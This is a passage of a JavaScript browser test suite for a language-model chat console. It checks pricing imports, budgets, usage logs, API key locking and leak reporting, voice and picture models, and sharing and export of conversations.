		await page.getByLabel(words.group, { exact: true }).fill("vip");
		await page.getByRole("button", { name: words.explain }).click();
		await rows.filter({ hasText: `${tag}-1` }).waitFor();
		await page.getByText(words.whys.key_disabled).first().waitFor();
		await look(page, `admin-route-${way.name}`);
		for (const channel of made) await api("DELETE", `/api/admin/channels/${channel.id}`, { token });
	});

// -- prices, groups, budgets

const PRICES = {
	en: { add: "Add", save: "Save", credits: "Credits", counted: "Counted", calculator: "Calculator", work: "Work out", imports: "Import", file: "File (JSON)", perUsd: "Credits for a dollar", preview: "Show what would change", apply: "Apply", name: "Name", ratio: "Ratio", budget: "Budget (Credits)", set: "Group and budget", group: "Group", actions: "Actions", left: "9 of 9 left", pays: /pays 0.5 ×/, close: "Close" },
	zh: { add: "新增", save: "保存", credits: "积分", counted: "计量项", calculator: "计算器", work: "计算", imports: "导入", file: "文件（JSON）", perUsd: "每美元对应积分", preview: "预览变更", apply: "应用", name: "名称", ratio: "倍率", budget: "预算 (积分)", set: "分组与预算", group: "分组", actions: "操作", left: "剩余 9 / 9", pays: /0.5 倍/, close: "关闭" },
};

for (const way of CORNERS)
	journey(`administration: prices, an import, a quote, a group with a budget (${way.name})`, async () => {
		const w = PRICES[way.language];
		const user = await newUser();
		const page = await newPage(way);
		const section = (title) => page.locator("section", { has: page.getByRole("heading", { name: title, exact: true }) });
		const dialog = page.getByRole("dialog");
		const prices = section(way.language === "zh" ? "价格" : "Prices");
		await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/models");
		await prices.locator("tbody tr").first().waitFor();

		// a row
		await prices.getByRole("button", { name: w.add }).click();
		await dialog.getByLabel(w.counted).selectOption("cached_input");
		await dialog.getByLabel(w.credits, { exact: true }).fill("0.25");
		await look(page, `admin-price-${way.name}`);
		await dialog.getByRole("button", { name: w.save }).click();
		await prices.locator("tbody tr", { hasText: "0.25" }).first().waitFor();

		// an import, looked at first
		await prices.getByRole("button", { name: w.imports }).click();
		const factor = 1000 + Math.floor(Math.random() * 1e6);
		await dialog.getByLabel(w.perUsd).fill(String(factor));
		await dialog.getByLabel(w.file).setInputFiles({ name: "list.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify({ "demo-slow": { cache_read_input_token_cost: 1e-7, input_cost_per_token_above_200k_tokens: 2e-6 } })) });
		await dialog.getByRole("button", { name: w.preview }).click();
		await dialog.locator("tbody tr").first().waitFor();
		await look(page, `admin-price-import-${way.name}`);
		await dialog.getByRole("button", { name: w.apply }).click();
		await dialog.waitFor({ state: "detached" });

		// what a call costs
		await prices.getByRole("button", { name: w.calculator }).click();
		await dialog.getByRole("button", { name: w.work }).click();
		await dialog.getByRole("status").locator("tbody tr").first().waitFor();
		await look(page, `admin-price-quote-${way.name}`);
		await dialog.getByRole("button", { name: w.close }).last().click();

		// a group with half the price and a budget, and a user in it
		const name = `g${Date.now().toString(36)}${way.phone ? "p" : "d"}${way.language}`;
		const groups = section(way.language === "zh" ? "分组" : "Groups");
		await groups.getByRole("button", { name: w.add }).click();
		await dialog.getByLabel(w.name).fill(name);
		await dialog.getByLabel(w.ratio).fill("0.5");
		await dialog.getByLabel(w.budget).fill("9");
		await look(page, `admin-group-${way.name}`);
		await dialog.getByRole("button", { name: w.save }).click();
		await groups.locator("tbody tr", { hasText: name }).waitFor();
		await look(page, `admin-prices-${way.name}`);
		await page.goto(`${URL_BASE}/admin/users`);
		await page.getByRole("searchbox").fill(user.email);
		const row = page.locator("tbody tr", { hasText: user.email });
		await row.getByRole("button", { name: w.actions }).click();
		await page.getByRole("menuitem", { name: w.set }).click();
		await dialog.getByLabel(w.group, { exact: true }).selectOption(name);
		await dialog.getByRole("button", { name: w.save }).click();
		await row.getByText(name).filter({ visible: true }).waitFor();
		await look(page, `admin-users-group-${way.name}`);

		// what the user sees of it
		const theirs = await newPage(way);
		await signIn(theirs, user.email, PASSWORD, "/settings/usage");
		await theirs.getByText(w.left).waitFor();
		await theirs.getByText(w.pays).waitFor();
		await look(theirs, `budgets-${way.name}`);
	});

for (const way of CORNERS)
	journey(`channels: how one fares (${way.name})`, async () => {
		const words = JSON.parse(readFileSync(new URL(`../../web/src/i18n/channels.${way.language}.json`, import.meta.url), "utf8")).channels;
		const page = await newPage(way);
		await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/channels");
		const row = page.locator("tbody tr").filter({ has: page.getByText("demo", { exact: true }) }).first();
		await row.getByRole("button", { name: way.language === "zh" ? "操作" : "Actions" }).click();
		await page.getByRole("menuitem", { name: words.fares.health }).click();
		const dialog = page.getByRole("dialog");
		// Two answers, in whichever order; and other journeys let this channel fail and come back as well.
		const down = dialog.locator("tbody tr", { hasText: "HTTP 503 overloaded: come back later" });
		await down.first().waitFor();
		await dialog.getByText(words.fares.kinds.up, { exact: true }).first().waitFor();
		await dialog.locator("p", { hasText: words.fares.failures }).getByText(new RegExp(`^${words.fares.classes.server} `)).waitFor();
		await look(page, `admin-channel-health-${way.name}`);
	});

// -- the console as a whole

const AREAS = [...readFileSync(new URL("../../web/src/pages/admin/AdminPage.tsx", import.meta.url), "utf8").matchAll(/^\t(\w+): \{ Icon/gm)].map(([, name]) => name);

for (const way of WAYS)
	journey(`console: every area is accessible and fits (${way.name})`, async () => {
		holds(AREAS.length > 9, `areas: ${AREAS}`);
		const page = await newPage(way);
		await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin");
		for (const area of AREAS) {
			await page.goto(`${URL_BASE}/admin/${area}`);
			await page.locator("main h2").first().waitFor();
			await until(async () => (await page.locator("main .animate-breathe").count()) === 0, `${area} is there`);
			await look(page, `console-${area}-${way.name}`);
		}
	});

journey("console: a table is sorted by keyboard, found in, and saved", async () => {
	const page = await newPage();
	await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/models");
	const table = page.getByRole("table", { name: "Models and prices" });
	const names = () => table.locator("tbody tr td:first-child p:last-child").allInnerTexts();
	await table.waitFor();
	const head = table.getByRole("columnheader", { name: "Name" });
	await head.getByRole("button").focus();
	await page.keyboard.press("Enter");
	equal(await head.getAttribute("aria-sort"), "ascending", "once");
	const up = await names();
	equal(up.join(), [...up].sort((a, b) => a.localeCompare(b)).join(), "by name");
	await page.keyboard.press("Enter");
	equal(await head.getAttribute("aria-sort"), "descending", "twice");
	equal((await names()).join(), [...up].reverse().join(), "the other way round");
	await page.getByRole("searchbox", { name: "Find" }).first().fill("demo-fast");
	await until(async () => (await names()).join() === "demo-fast", "one is found");
	const [file] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download CSV" }).first().click()]);
	equal(file.suggestedFilename(), "models.csv", "name of the file");
	const lines = readFileSync(await file.path(), "utf8").trim().split("\r\n");
	equal(lines.length, 2, "what the table shows");
	holds(lines[1].startsWith("demo-fast,"), lines[1]);
});

journey("console: what the server pages is sorted by the server, all of it", async () => {
	const token = await admin();
	const name = `many-${Date.now()}`;
	const made = await api("POST", "/api/admin/models", { token, json: { name, context_tokens: 8000, max_output_tokens: 1000, price_input_per_mtok: 1, price_output_per_mtok: 1 } });
	equal(made.status, 201, made.text);
	// 60 rows and the two of the model: more than a page, the dearest among the first that were written
	const rows = Array.from({ length: 60 }, (_, i) => ({ model: name, meter: "input", min_context: i + 1, unit_price: 100 + ((i * 7) % 60), per: 1000000 }));
	const put = await api("PUT", "/api/admin/prices", { token, json: { rows } });
	equal(put.status, 200, put.text);
	const page = await newPage();
	await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/models");
	await page.getByRole("combobox", { name: "Model" }).selectOption(name);
	const table = page.getByRole("table", { name: "Prices", exact: true });
	const prices = async () => (await table.locator("tbody tr td:nth-child(4)").allInnerTexts()).map((text) => parseFloat(text));
	await until(async () => (await prices()).length === 50, "a page of them");
	const head = table.getByRole("columnheader", { name: "Price" });
	equal(await table.getByRole("columnheader", { name: "When" }).getByRole("button").count(), 0, "the server does not sort by that");
	await head.getByRole("button").click();
	await until(async () => (await prices())[0] === 159, "the dearest first");
	equal(await head.getAttribute("aria-sort"), "descending", "it says so");
	await look(page, "console-sorted");
	await page.getByRole("button", { name: "Show more" }).click();
	const pages = page.getByRole("navigation", { name: "Pages of the table: Prices" });
	await pages.getByText("51–62", { exact: false }).or(pages.getByText("1–50 of 62")).first().waitFor();
	await head.getByRole("button").click();
	await until(async () => (await prices())[0] === 1, "the cheapest first");
	equal(await head.getAttribute("aria-sort"), "ascending", "it says that, too");
	const up = await prices();
	equal(up.join(), [...up].sort((x, y) => x - y).join(), "in order");
});

journey("history of budgets: its user sees that a budget was set", async () => {
	const user = await newUser();
	const set = await api("PATCH", `/api/admin/users/${user.id}`, { token: await admin(), json: { budget: { amount: "7", period: "month" } } });
	equal(set.status, 200, set.text);
	const page = await newPage(WAYS[2]);
	await signIn(page, user.email, PASSWORD, "/settings/usage");
	await page.getByRole("table", { name: "预算历史" }).locator("tbody tr", { hasText: "已设定" }).waitFor();
	await look(page, "budget-history");
});

journey("console: users are found by role and status", async () => {
	const nickname = `Found ${Date.now()}`;
	const [plain, boss, gone] = [await newUser(nickname), await newUser(nickname), await newUser(nickname)];
	const token = await admin();
	equal((await api("PATCH", `/api/admin/users/${boss.id}`, { token, json: { role: "admin" } })).status, 200, "an administrator");
	equal((await api("PATCH", `/api/admin/users/${gone.id}`, { token, json: { status: "disabled" } })).status, 200, "one who is disabled");
	const page = await newPage(WAYS[1]);
	await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/users");
	await page.getByRole("searchbox").fill(nickname);
	const rows = page.locator("tbody tr");
	const [role, status] = [page.getByRole("combobox", { name: "角色" }), page.getByRole("combobox", { name: "状态" })];
	const shows = (wanted, what) => until(async () => (await rows.allInnerTexts()).map((text) => text.match(/web-\S+/)?.[0]).sort().join() === wanted.map(({ email }) => email).sort().join(), what);
	await shows([plain, boss, gone], "all three");
	await role.selectOption("admin");
	await shows([boss], "the administrator");
	await role.selectOption("user");
	await shows([plain, gone], "those who are none");
	await status.selectOption("disabled");
	await shows([gone], "the disabled one");
	await role.selectOption("admin");
	await page.getByText("没有符合的用户").waitFor();
	await look(page, "admin-users-filtered");
});

// -- what was used

const USAGE = {
	en: { calls: "Calls", model: "Model", status: "Status", none: "Nothing was used in this period", csv: "Download CSV", table: "As a table", user: "User", find: "Email, phone, nickname or id" },
	zh: { calls: "调用次数", model: "模型", status: "状态", none: "该时间段内没有用量", csv: "下载 CSV", table: "以表格显示", user: "用户", find: "邮箱、手机号、昵称或 ID" },
};

for (const way of CORNERS)
	journey(`usage: what a chat used is shown, filtered and downloaded (${way.name})`, async () => {
		const words = USAGE[way.language];
		const user = await newUser();
		const page = await newPage(way);
		await signIn(page, user.email, PASSWORD, "/settings/usage");
		await page.getByText(words.none).waitFor();
		await page.goto(URL_BASE);
		await chooseModel(page, "demo-fast");
		await send(page, "What does this use?");
		await waitAnswer(page, 1);
		await send(page, "And this?");
		await waitAnswer(page, 2);

		await page.goto(`${URL_BASE}/settings/usage`);
		const rows = page.locator("section").filter({ has: page.getByRole("button", { name: words.csv }) }).locator("tbody tr");
		await until(async () => (await rows.count()) === 2, "both calls are listed");
		equal(await page.locator("dl div", { hasText: words.calls }).locator("dd").innerText(), "2", "calls");
		const today = page.locator("figure svg rect[data-day]").last();
		holds(Number(await today.getAttribute("height")) > 50, "the bar of today");
		await page.locator("figure svg").filter({ has: page.locator("rect") }).hover({ position: { x: 2, y: 20 } });
		await page.getByText(words.table).click();
		equal(await page.locator("figure tbody tr").count(), 30, "days in the table");
		await look(page, `usage-${way.name}`);
		await page.getByRole("combobox", { name: words.status }).selectOption("failed");
		await page.getByText(words.none).waitFor();
		await page.getByRole("combobox", { name: words.status }).selectOption("completed");
		await page.getByRole("combobox", { name: words.model }).selectOption("demo-fast");
		await until(async () => (await rows.count()) === 2, "both calls have this status and model");
		const [file] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: words.csv }).click()]);
		equal(file.suggestedFilename(), "usage.csv", "name of the file");
		const lines = readFileSync(await file.path(), "utf8").trim().split("\r\n");
		equal(lines.length, 3, "lines of the file");
		holds(lines[1].includes("demo-fast"), `a line of the file: ${lines[1]}`);
		for (const days of ["7", "90"]) {
			await page.locator("label", { hasText: days }).click();
			await until(async () => (await page.locator("figure tbody tr").count()) === Number(days), `${days} days`);
		}
	});

for (const way of [WAYS[1], WAYS[3]])
	journey(`usage: an admin sees whose requests there were, and sums (${way.name})`, async () => {
		const words = USAGE[way.language];
		const user = await newUser(`Heavy user ${way.name} ${Date.now() % 1e6}`);
		const theirs = await newPage();
		await signIn(theirs, user.email);
		await chooseModel(theirs, "demo-fast");
		await send(theirs, "Remember me");
		await waitAnswer(theirs, 1);
		await send(theirs, `[[demo fault=500 fail=9]] Fail (usage ${way.name})`);
		await waitAnswer(theirs, 2, "llm_error").catch(() => waitAnswer(theirs, 2, "error"));

		const page = await newPage(way);
		await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/log");
		const rows = page.locator("tbody tr");
		await rows.first().waitFor();
		await page.getByRole("searchbox", { name: words.find }).fill(user.email);
		await page.getByRole("listitem").getByRole("button", { name: user.nickname }).click();
		await until(async () => (await rows.count()) === 2, "the requests of this user");
		const seen = await rows.allInnerTexts();
		holds(seen.every((text) => text.includes(user.nickname) && text.includes("demo")), `the name and the model: ${seen}`);
		equal(await rows.first().locator(".font-mono:visible").count(), 1, "the code of the error");
		await look(page, `admin-log-${way.name}`);
		await rows.last().getByRole("button").last().click();
		await page.getByRole("dialog").locator("dl code").first().waitFor();
		await look(page, `admin-request-${way.name}`);
		await page.keyboard.press("Escape");
		await send(theirs, "And this, which nobody asks for");
		await waitAnswer(theirs, 3);
		await until(async () => (await rows.count()) === 3, "a new request comes by itself");
		await page.getByLabel(words.status, { exact: true }).selectOption("completed");
		await until(async () => (await rows.count()) === 2, "two requests were completed");
		await page.reload();
		await until(async () => (await rows.count()) === 3, "whose is in the address");

		await page.goto(`${URL_BASE}/admin/usage`);
		await page.locator("label", { hasText: words.user }).click();
		const line = page.locator("tbody tr", { hasText: user.nickname });
		await line.waitFor();
		await look(page, `admin-usage-${way.name}`);
		await line.getByRole("link").click();
		await until(async () => (await rows.count()) === 3, "from a sum to the requests");
	});

// -- the watch on keys

const WATCH = {
	en: { actions: "Actions for", lock: "Lock", unlock: "Unlock", reason: "Reason, which its owner is told", locked: "Locked", leaks: "Leaked keys", list: "List", lockThem: "Lock them", done: "1 looked like keys, 1 are keys here, 1 were locked.", leaked: "Leaked", away: "Put away", note: "Note", find: "Name, label, beginning or owner", label: "Label", auto: "Rotates by itself", add: "New API key", create: "Create key", name: "Name", kept: "I have copied it", collect: "Collect key", expire: "End now", expired: "Expired", details: "Details" },
	zh: { actions: "的操作", lock: "锁定", unlock: "解除锁定", reason: "原因（会告知所有者）", locked: "已锁定", leaks: "泄露的密钥", list: "列表", lockThem: "锁定", done: "疑似密钥 1 个，本站密钥 1 个，已锁定 1 个。", leaked: "泄露", away: "标记为已处理", note: "备注", find: "名称、标签、开头或所有者", label: "标签", auto: "自动轮换", add: "新建 API 密钥", create: "创建密钥", name: "名称", kept: "我已复制", collect: "领取密钥", expire: "立即到期", expired: "已过期", details: "详情" },
};

for (const way of CORNERS)
	journey(`keys: an admin locks one, and those in a list of leaked ones; their owner sees why (${way.name})`, async () => {
		const words = WATCH[way.language];
		const user = await newUser(`Owner ${way.name}`);
		const make = async (name, more = {}) => (await api("POST", "/api/keys", { token: user.token, json: { name, ...more } })).json;
		await make("Nightly job", { label: "ci", expires_at: new Date(Date.now() + 3 * 86_400_000).toISOString() });
		const careless = await make(`Careless ${way.name}`);
		const page = await newPage(way);
		await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/keys");
		const rows = page.locator("tbody tr");
		await page.getByRole("searchbox", { name: words.find }).fill(user.email);
		await until(async () => (await rows.count()) === 2, "the keys of this user");
		const job = rows.filter({ hasText: "Nightly job" });
		await job.getByRole("button", { name: words.actions }).click();
		await page.getByRole("menuitem", { name: words.lock, exact: true }).click();
		await page.getByLabel(words.reason).fill("seen on a forum");
		await look(page, `admin-keys-lock-${way.name}`);
		await page.getByRole("dialog").getByRole("button", { name: words.lock, exact: true }).click();
		await job.getByText("seen on a forum").first().waitFor();
		await look(page, `admin-keys-${way.name}`);

		await page.goto(`${URL_BASE}/admin/security`);
		await page.getByRole("button", { name: words.leaks }).click();
		await page.getByLabel(words.list).fill(`somebody posted ${careless.key} yesterday`);
		await look(page, `admin-leaks-${way.name}`);
		await page.getByRole("button", { name: words.lockThem, exact: true }).click();
		await page.getByText(words.done).waitFor();
		const event = rows.filter({ hasText: `Careless ${way.name}` }).filter({ hasText: words.leaked }).first();
		await event.waitFor();
		await look(page, `admin-security-${way.name}`);
		await event.getByRole("button", { name: words.away, exact: true }).click();
		await page.getByLabel(words.note).fill("told them");
		await page.getByRole("dialog").getByRole("button", { name: words.away, exact: true }).click();
		await event.waitFor({ state: "detached" });

		const theirs = await newPage(way);
		await signIn(theirs, user.email, PASSWORD, "/settings/keys");
		await theirs.getByText("seen on a forum").waitFor();
		await look(theirs, `keys-locked-${way.name}`);
		await page.goto(`${URL_BASE}/admin/keys`);
		await page.getByRole("searchbox", { name: words.find }).fill(user.email);
		await until(async () => (await rows.count()) === 2, "the keys of this user, again");
		await job.getByRole("button", { name: words.actions }).click();
		await page.getByRole("menuitem", { name: words.unlock, exact: true }).click();
		await until(async () => !(await job.innerText()).includes("seen on a forum"), "it is unlocked");
		await theirs.reload();
		await until(async () => (await theirs.getByText("seen on a forum").count()) === 0 && (await theirs.getByText("Nightly job").count()) === 1, "and its owner sees it");
	});

for (const way of [WAYS[1], WAYS[3]])
	journey(`keys: with a label, rotating by itself, collected, ended at once (${way.name})`, async () => {
		const words = WATCH[way.language];
		const user = await newUser();
		const page = await newPage(way);
		await signIn(page, user.email, PASSWORD, "/settings/keys");
		await page.getByRole("button", { name: words.add }).click();
		const dialog = page.getByRole("dialog");
		await dialog.getByLabel(words.name, { exact: true }).fill("Nightly");
		await dialog.getByLabel(words.label, { exact: true }).fill("ci");
		await dialog.getByLabel(words.auto).selectOption("30");
		await look(page, `keys-new-${way.name}`);
		await dialog.getByRole("button", { name: words.create }).click();
		await dialog.getByRole("button", { name: words.kept }).click();
		const row = page.locator("main li", { hasText: "Nightly" });
		await row.getByText("ci", { exact: true }).waitFor();

		// what weir-worker does in 30 days, told by the server as it would be
		const { json } = await api("GET", "/api/keys", { token: user.token });
		const [key] = json.items;
		await page.route("**/api/keys?*", async (route) => route.fulfill({ json: { items: [{ ...key, collectable: true }], has_more: false } }));
		await page.route(`**/api/keys/${key.id}/collect`, async (route) => route.fulfill({ json: { ...key, key: `${key.prefix}${"0".repeat(26)}` } }));
		await page.reload();
		await row.getByRole("button", { name: words.collect }).waitFor();
		await look(page, `keys-collect-${way.name}`);
		await row.getByRole("button", { name: words.collect }).click();
		await page.getByTestId("new-key").waitFor();
		await page.unrouteAll();
		await dialog.getByRole("button", { name: words.kept }).click();

		await page.reload();
		await row.getByRole("button", { name: /Nightly/ }).click();
		await page.getByRole("menuitem", { name: words.expire }).click();
		await dialog.getByRole("button", { name: words.expire }).click();
		await row.getByText(words.expired, { exact: true }).waitFor();
	});

journey("language and theme are kept; a first visit loads little", async () => {
	const page = await newPage(WAYS[0]);
	let scripts = 0;
	let idle = false; // what opens by a press is fetched when the page is idle, with all that belongs to it
	const first = new Set();
	const seen = [];
	page.on("request", (r) => {
		idle ||= /\/menus[.-]/.test(r.url());
		if (!idle) first.add(r);
	});
	page.on("response", async (r) => {
		seen.push({ path: new URL(r.url()).pathname, kept: r.headers()["cache-control"] ?? "" });
		if (first.has(r.request()) && r.url().endsWith(".js") && r.status() === 200 && !/\/(SignIn|AuthFrame|auth|trust)[.-]/.test(r.url())) scripts += Number(r.headers()["content-length"] ?? 0);
	});
	const user = await newUser();
	await signIn(page, user.email);
	await page.locator("main ul button").first().waitFor();
	console.log(`# script of the first load: ${scripts} bytes`);
	holds(scripts > 150_000 && scripts <= 200_000, `script of the first load: ${scripts} bytes`);
	holds(!seen.some((r) => r.path === "/api/openapi.json"), "the page does not ask for the API's description");
	for (const { path, kept } of seen.filter((r) => !r.path.startsWith("/api/")))
		equal(kept.includes("immutable"), /^\/assets\/.+-[\w-]{8}\.\w+$/.test(path), `${path} is kept for good (${kept})`);
	holds(seen.some((r) => /^\/assets\/theme-/.test(r.path)), "the theme's script is among them");
	await page.goto(`${URL_BASE}/settings/appearance`);
	await page.getByText("中文", { exact: true }).click();
	await page.getByText("深色").click();
	await until(() => page.evaluate(() => document.documentElement.dataset.theme === "dark"), "the dark theme");
	await page.reload();
	await page.getByText("语言").waitFor();
	equal(await page.evaluate(() => document.documentElement.dataset.theme), "dark", "theme after a reload");
	equal(await page.evaluate(() => document.documentElement.lang), "zh-CN", "language after a reload");
	await accessible(page, "appearance in the other language");
	await page.goto(URL_BASE);
	equal(await input(page).getAttribute("placeholder"), "发消息...", "placeholder");
});

journey("who is quicker than the list of models is not told to try again", async () => {
	const user = await newUser();
	const page = await newPage();
	await page.route("**/api/models*", async (route) => {
		await new Promise((done) => setTimeout(done, 2000));
		await route.continue();
	});
	await signIn(page, user.email);
	await send(page, "Too early, and sent all the same");
	holds((await answers(page).count()) === 0, "nothing goes without a model");
	holds((await (await waitAnswer(page, 1)).innerText()).includes("Too early"), "it goes when the models are there");
	equal(await input(page).inputValue(), "", "the input afterwards");
});

// -- pictures

// -- a voice

/** Models that write down what is said, and that read aloud. */
async function voices() {
	const token = await admin();
	for (const [name, ability] of [["ears", "transcription"], ["mouth", "speech"]]) {
		const model = { name, type: "audio", abilities: [ability], context_tokens: 32000, max_output_tokens: 4000, price_input_per_mtok: 1, price_output_per_mtok: 1, price_per_call: 2 };
		const made = await api("POST", "/api/admin/models", { token, json: model });
		if (made.status === 409) return;
		equal(made.status, 201, made.text);
		const channel = { name, provider: "openai", base_url: process.env.WEIR_DEMO, api_key: "demo", allow_private: true, models: [{ model: name, upstream_name: "demo-fast" }] };
		equal((await api("POST", "/api/admin/channels", { token, json: channel })).status, 201, "channel");
	}
}

journey("voice: what is said is written down, and an answer read aloud, by models", async () => {
	await voices();
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email, PASSWORD, "/");
	await page.getByRole("button", { name: "Dictate" }).click();
	await page.getByRole("button", { name: "Discard recording" }).waitFor();
	await page.waitForTimeout(600);
	await page.getByRole("button", { name: "Use recording" }).click();
	await until(async () => (await input(page).inputValue()).trim() !== "", "the words are there");
	await input(page).fill("hi [[demo deltas=3]]");
	await page.keyboard.press("Enter");
	await waitAnswer(page, 1);
	const sound = page.waitForResponse((r) => r.url().endsWith("/v1/audio/speech"));
	await fromMenu(page, answers(page).last(), "Read aloud");
	equal((await sound).status(), 200, "the sound");
	const calls = await api("GET", "/api/usage/records?limit=10", { token: user.token });
	const models = calls.json.items.map((r) => r.model);
	holds(models.includes("ears") && models.includes("mouth"), `calls of ${models}`);
});

/** A model that makes pictures, of its own for each way. */
async function painter(name) {
	const token = await admin();
	const model = { name, type: "image", context_tokens: 100, max_output_tokens: 100, price_input_per_mtok: 0, price_output_per_mtok: 0, price_per_call: 5 };
	equal((await api("POST", "/api/admin/models", { token, json: model })).status, 201, "a model");
	const channel = { name, provider: "kie", base_url: process.env.WEIR_DEMO, api_key: "demo", allow_private: true, models: [{ model: name, upstream_name: "google/nano-banana" }] };
	const made = await api("POST", "/api/admin/channels", { token, json: channel });
	equal(made.status, 201, `a channel: ${JSON.stringify(made)}`);
}

for (const way of CORNERS)
	journey(`pictures: one is made, watched, and there after a reload (${way.name})`, async () => {
		const words = JSON.parse(readFileSync(new URL(`../../web/src/i18n/making.${way.language}.json`, import.meta.url), "utf8")).making;
		const name = `painter-${way.name}-${Date.now()}`;
		await painter(name);
		const user = await newUser();
		const page = await newPage(way);
		await signIn(page, user.email, PASSWORD, "/media");
		await page.getByText(words.empty, { exact: true }).waitFor();
		await page.getByLabel(words.model, { exact: true }).selectOption(name);
		await page.getByRole("combobox", { name: words.size }).selectOption("16:9");
		await page.getByLabel(words.prompt, { exact: true }).fill("[[demo task=5000]] A weir at dawn");
		await page.getByRole("button", { name: words.make }).click();
		const bar = page.getByRole("progressbar");
		await bar.waitFor();
		const far = await until(async () => Number(await bar.getAttribute("aria-valuenow")), "it gets on");
		await look(page, `making-${way.name}`);
		await page.reload();
		// In one look: it may end between two.
		const goesOn = (least) => document.querySelector("[data-made]") !== null || Number(document.querySelector("[role=progressbar]")?.getAttribute("aria-valuenow")) >= least;
		await until(() => page.evaluate(goesOn, far), "it goes on where it was");
		const picture = page.locator("[data-made] img");
		await picture.waitFor({ timeout: 60_000 });
		await until(() => picture.evaluate((img) => img.complete && img.naturalWidth > 0), "the picture is drawn");
		equal(await balanceOf(user), 95, "credits afterwards");
		await page.reload();
		await picture.waitFor();
		await page.getByText("A weir at dawn").waitFor();
		await look(page, `made-${way.name}`);
	});

// -- a conversation leaves by a link and a file, and one comes from another program

for (const way of CORNERS)
	journey(`share, export, import (${way.name})`, async () => {
		const [w, app] = ["sharing", ""].map((part) => JSON.parse(readFileSync(new URL(`../../web/src/i18n/${part ? `${part}.` : ""}${way.language}.json`, import.meta.url), "utf8")));
		const words = w.sharing;
		const user = await newUser();
		const page = await newPage(way);
		await signIn(page, user.email);

		// bring an export of ChatGPT
		await page.goto(`${URL_BASE}/settings/data`);
		await page.getByText(words.no_links, { exact: true }).waitFor();
		const file = { name: "x.json", mimeType: "application/json" };
		await page.locator('input[type="file"]').setInputFiles({ ...file, buffer: Buffer.from('{"a": 1}') });
		await page.getByRole("alert").filter({ hasText: words.unknown_file }).waitFor();
		const said = (role, text) => ({ author: { role }, content: { content_type: "text", parts: [text] }, create_time: 1714557600 });
		const held = (title) => ({ title, create_time: 1714557600, current_node: "b", mapping: { a: { parent: null, message: said("user", "What is a weir?"), children: ["b"] }, b: { parent: "a", message: said("assistant", "A **low dam** across a river.\n\n| a | b |\n|---|---|\n| 1 | 2 |"), children: [] } } });
		await page.locator('input[type="file"]').setInputFiles({ ...file, buffer: Buffer.from(JSON.stringify([held("Of weirs"), held("Of dams")])) });
		await page.getByText(words.brought_other.replace("{{count}}", "2")).waitFor();
		await look(page, `data-${way.name}`);

		// share one of them
		await page.goto(URL_BASE);
		await openSidebar(page, way);
		await page.getByRole("button", { name: app.sidebar.menu_of.replace("{{title}}", "Of weirs") }).click();
		await page.getByRole("menuitem", { name: app.sidebar.share }).click();
		const dialog = page.getByRole("dialog");
		await dialog.getByRole("button", { name: words.make }).click();
		await dialog.getByRole("button", { name: words.copy }).click();
		await look(page, `share-${way.name}`);
		const url = await dialog.getByRole("link", { name: words.open }).getAttribute("href");
		equal(await page.evaluate(() => navigator.clipboard.readText()), url, "what was copied");
		const [download] = await Promise.all([page.waitForEvent("download"), dialog.getByRole("button", { name: words.markdown }).click()]);
		equal(download.suggestedFilename(), "Of weirs.md", "name of the file");
		holds(readFileSync(await download.path(), "utf8").includes("A **low dam** across a river."), "the answer is in the file");
		const [paper] = await Promise.all([page.context().waitForEvent("page"), dialog.getByRole("button", { name: words.print }).click()]);
		await paper.getByText("low dam").waitFor();
		await paper.close();

		// a stranger reads it, until it is revoked
		const stranger = await newPage(way);
		const at = URL_BASE + new URL(url).pathname;
		await stranger.goto(at);
		await stranger.getByRole("cell", { name: "2" }).waitFor();
		equal(await stranger.locator('meta[name="robots"]').getAttribute("content"), "noindex, nofollow", "robots");
		await look(stranger, `shared-${way.name}`);
		await dialog.getByRole("button", { name: words.revoke }).click();
		await page.getByRole("dialog").last().getByRole("button", { name: words.revoke }).last().click();
		await until(async () => (await dialog.getByRole("link", { name: words.open }).count()) === 0, "the link is gone from the list");
		await stranger.goto(at);
		await stranger.getByText(words.gone, { exact: true }).waitFor();
		await look(stranger, `shared-gone-${way.name}`);
	});

// -- pictures and films in a conversation

/** What people of the journeys have made: the provider's model, type, meter, price. */
const MAKERS = {
	paint: ["google/nano-banana", "image", "image", 5],
	retouch: ["google/nano-banana-edit", "image", "image", 6],
	roll: ["sora-2-text-to-video", "video", "second", 3],
	revive: ["sora-2-image-to-video", "video", "second", 3],
	direct: ["sora-2-pro-storyboard", "video", "second", 2],
};
let makers;
const withMakers = () => (makers ??= addMakers());
async function addMakers() {
	const token = await admin();
	for (const [name, [, type, meter, price]] of Object.entries(MAKERS)) {
		const model = { name, type, context_tokens: 100, max_output_tokens: 100, price_input_per_mtok: 0, price_output_per_mtok: 0, sort: 500 };
		const made = await api("POST", "/api/admin/models", { token, json: model });
		equal(made.status, 201, made.text);
		const rows = [{ model: name, meter, unit_price: price, per: 1 }];
		const priced = await api("PUT", "/api/admin/prices", { token, json: { rows, models: [name] } });
		equal(priced.status, 200, priced.text);
	}
	const models = Object.entries(MAKERS).map(([model, [upstream_name]]) => ({ model, upstream_name }));
	const channel = { name: "makers", provider: "kie", base_url: process.env.WEIR_DEMO, api_key: "demo", allow_private: true, models };
	equal((await api("POST", "/api/admin/channels", { token, json: channel })).status, 201, "a channel");
	await new Promise((done) => setTimeout(done, 1000)); // until the responders know
}

const hands = (what) => fetch(`${process.env.WEIR_HANDS}/${what}`, { method: "POST" });
const makingWords = (way) => JSON.parse(readFileSync(new URL(`../../web/src/i18n/making.${way.language}.json`, import.meta.url), "utf8")).making;
